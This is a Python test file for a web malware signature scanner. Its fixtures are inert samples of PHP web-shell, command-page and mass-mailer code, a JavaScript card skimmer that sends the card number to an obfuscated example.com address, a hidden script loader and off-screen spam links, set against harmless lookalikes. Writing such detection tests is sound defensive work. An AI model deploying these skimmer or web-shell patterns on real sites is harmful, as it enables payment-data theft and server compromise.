"""The rules on inert samples: each fits what its family does, and not what only looks like it."""

from pathlib import Path

import pytest

from scanners.signatures import SignatureError, Signatures
from sentry.domain.finding import FindingClass

SIGNATURES = Signatures()

CONTROL_PAGE = b"""<?php
$c = $_POST['a'];
echo php_uname() . getcwd() . ini_get('safe_mode') . $_SERVER['SERVER_SOFTWARE'] . disk_free_space('/');
if ($c == 'rm') { unlink($_POST['f']); } elseif ($c == 'ls') { foreach (scandir('.') as $f) { echo fileperms($f); } }
function run($x) { return shell_exec($x); }
?><form method=post><input name=a></form>"""

FITS = {
    "php_remote_control_page": CONTROL_PAGE,
    "php_command_page": (
        b"<?php chdir($_GET['d']); $o = popen($line, 'r'); $w = $_POST['cmd']; ?><form><input name=cmd></form>"
    ),
    "php_mass_mailer": (
        b"<?php set_time_limit(0); $l = explode(\"\\n\", $_POST['emaillist']);\n"
        b"foreach ($l as $to) { mail($to, $_POST['subject'], $_POST['m'], \"Reply-To: $from_name\"); flush(); }\n"
        b"?><textarea name=emaillist></textarea>"
    ),
    "php_database_page": b"<?php mysql_connect($_POST['host'], $u, $p); mysql_query($q); ?><form></form>",
    "skimmer_of_payment_data": (
        b"document.addEventListener('submit', function () { var n = document.querySelector('[name=cc_number]').value;"
        b"new Image().src = atob('aHR0cHM6Ly9leGFtcGxlLmNvbS8=') + n; });"
    ),
    "script_that_loads_a_hidden_script": (
        b"var s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9leGFtcGxlLmNvbS94Lmpz');"
    ),
    "links_out_of_sight": (
        b'<div style="position:absolute;left:-9999px">'
        + b'<a href="https://pills.example/">buy now</a> ' * 4
        + b"</div>"
    ),
}


@pytest.mark.parametrize(("rule", "content"), FITS.items(), ids=FITS)
def test_rule_fits_what_its_family_does(rule: str, content: bytes) -> None:
    """And says what that means, whose rule it is and where it was seen."""
    found = {match.rule: match for match in SIGNATURES.matches(content)}

    assert rule in found
    assert found[rule].author
    assert found[rule].meaning
    assert found[rule].line >= 1


HARMLESS = {
    "a contact form": b"<?php mail($to, $_POST['subject'], $_POST['text'], 'Reply-To: x'); ?><textarea></textarea>",
    "a system information class": b"<?php\nclass Info {\n" + CONTROL_PAGE.removeprefix(b"<?php") + b"}",
    "a payment form's own script": (
        b"form.addEventListener('submit', function () { fetch('/pay', {body: form.cc_number.value}); });"
    ),
    "a loader of a plain address": b"var s = document.createElement('script'); s.src = 'https://www.example.com/a.js';",
    "a link for screen readers": b'<a style="left:-9999px" href="#content">Skip to content</a>',
}


@pytest.mark.parametrize("content", HARMLESS.values(), ids=HARMLESS)
def test_no_rule_fits_what_is_harmless(content: bytes) -> None:
    """False alarms are what people leave their scanners for."""
    assert SIGNATURES.matches(content) == []


def test_match_names_the_line() -> None:
    """A reader opens the file where it is."""
    (match,) = SIGNATURES.matches(b"// one\n// two\neval(atob('YQ=='));\n")

    assert match.verdict is FindingClass.SUSPICIOUS
    assert match.line == 3


def test_rules_that_cannot_be_compiled_are_named(tmp_path: Path) -> None:
    """Where they are, and what the compiler says."""
    (tmp_path / "broken.yar").write_text("rule a { condition: b }")

    with pytest.raises(SignatureError, match=r"broken\.yar.*undefined identifier"):
        Signatures(tmp_path)
